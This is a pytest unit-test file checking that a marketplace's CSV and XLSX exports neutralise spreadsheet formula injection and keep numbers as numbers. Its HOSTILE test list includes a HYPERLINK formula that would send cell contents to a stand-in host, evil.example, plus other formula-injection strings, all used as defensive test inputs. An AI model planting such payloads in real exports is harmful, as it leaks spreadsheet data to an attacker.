"""Unit: every export neutralises text a spreadsheet would run as a formula (OWASP CSV injection)
and keeps numbers as numbers."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from marketplace.core import exports

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_gets_a_leading_quote(text):
    assert exports.safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["智慧养老", "a=b", " =1", "", None, 0, -5, Decimal("-12.50"), 3.5, True])
def test_harmless_values_and_numbers_are_unchanged(value):
    assert exports.safe_cell(value) is value


def test_csv_text_neutralises_every_cell_and_keeps_negative_numbers():
    text = exports.csv_text(["名称", "金额"], [[h, Decimal("-12.50")] for h in HOSTILE] + [["正常", -3]])
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert [r[0] for r in rows[1:-1]] == ["'" + h for h in HOSTILE]
    assert {r[1] for r in rows[1:-1]} == {"-12.50"} and rows[-1] == ["正常", "-3"]


def test_xlsx_cells_are_text_not_formulas_and_numbers_stay_numbers():
    data = exports.xlsx_bytes("结果", ["名称", "金额"], [[h, Decimal("-12.50")] for h in HOSTILE] + [["控制\x01字符", 7]])
    sheet = load_workbook(io.BytesIO(data)).active
    for row, text in zip(sheet.iter_rows(min_row=2), HOSTILE, strict=False):
        # XML turns a stored CR into LF on reading; what matters is the quote in front.
        assert row[0].data_type != "f" and row[0].value == "'" + text.replace("\r", "\n")
        assert row[1].data_type == "n" and row[1].value == -12.5 and row[1].number_format == "#,##0.00"
    assert sheet.cell(row=sheet.max_row, column=1).value == "控制字符"


def test_csv_response_has_exactly_one_charset():
    response = exports.csv_response("x.csv", ["a"], [["b"]])
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == "attachment; filename=x.csv"
